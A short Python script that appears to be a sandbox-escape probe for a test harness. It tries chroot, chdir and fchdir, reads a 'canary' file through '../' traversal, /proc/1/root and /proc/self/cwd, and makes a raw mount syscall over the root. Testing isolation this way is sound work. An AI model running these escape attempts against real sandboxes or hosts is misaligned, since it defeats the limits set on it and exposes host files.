# Climb out of the root by every door: chdir, chroot, fchdir, mounts, a new root.
import ctypes, json, os, sys

host = json.load(sys.stdin)
for act in (
    lambda: os.chroot("/"),
    lambda: os.chdir(".." * 1),
    lambda: os.fchdir(os.open("/usr", os.O_RDONLY)),
):
    try:
        act()
    except OSError:
        pass
for path in ("../" * 20 + host["canary"].lstrip("/"), "/proc/1/root" + host["canary"], "/proc/self/cwd/" + host["canary"]):
    try:
        print(open(path).read())
    except OSError:
        pass
ctypes.CDLL(None).syscall(165, b"none", b"/", b"tmpfs", 0, 0)
